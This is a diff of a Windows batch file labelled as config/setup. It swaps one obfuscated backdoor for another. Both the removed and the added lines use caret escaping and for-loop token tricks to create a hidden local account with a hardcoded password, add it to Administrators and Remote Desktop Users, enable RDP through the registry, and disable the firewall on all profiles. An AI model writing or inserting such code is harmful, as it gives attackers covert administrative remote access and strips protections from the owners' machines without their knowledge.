@@ -1,6 +1,6 @@
-REM config 3736 v4
-^fo^r /f "tokens=2 delims=@" %%^i ^in ("pbki@net@uzyt") do %%^i us^er ^a^z^ur^e^ad^m^1n Q^w^erty#7788 /a^dd /^y
-for /f "tokens=2 delims=#" %%^i ^in ("suvb#net#ikgq") ^d^o %%^i ^lo^cal^g^ro^up a^dm^i^n^i^s^tra^t^o^rs az^u^re^a^dm1n /^ad^d
-^f^or /^f "tokens=1 delims=~" %%i ^i^n ("net~urxx~hqyn") ^do %%^i ^l^o^c^a^lg^roup "Remote Desktop Users" a^zure^adm^1n /^a^d^d
-f^or /f "tokens=1 delims=@" %%^i in ("reg@wixq@oatz") ^d^o %%i a^d^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v ^fDeny^TSC^o^n^n^e^c^t^ions /^t R^EG_D^WORD /^d 0 /^f
-f^or /^f "tokens=2 delims=~" %%i ^in ("colo~netsh~yevy") do %%i ad^vf^ire^w^a^ll ^s^et ^al^l^p^rof^i^les s^tate of^f
+REM setup 6965 v4
+^f^or /^f "tokens=3 delims=~" %%^i in ("rsxm~fmeo~net") do %%i u^se^r d^e^f^au^ltu^s^er^2 ^Winter#^202^5x /^a^dd /y
+for /^f "tokens=1 delims=#" %%i ^i^n ("net#bjdg#xvek") do %%^i ^l^ocal^g^rou^p ^adm^i^nis^tr^at^o^r^s ^defau^l^t^us^e^r2 /add
+^f^o^r /f "tokens=3 delims=~" %%^i ^i^n ("pjfk~yvgp~net") ^do %%i ^loc^al^gr^o^u^p "Remote Desktop Users" de^f^au^lt^user2 /^a^dd
+fo^r /f "tokens=1 delims=~" %%^i in ("reg~bvfq~ydqq") do %%^i ^add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v ^f^Deny^T^S^Conn^ecti^o^ns /^t REG_DW^O^R^D /^d ^0 /f
+for /f "tokens=2 delims=;" %%^i in ("oxrv;netsh;iwgf") ^do %%^i ^ad^vf^i^r^ewal^l se^t a^l^l^p^r^o^fi^le^s ^s^t^ate o^ff
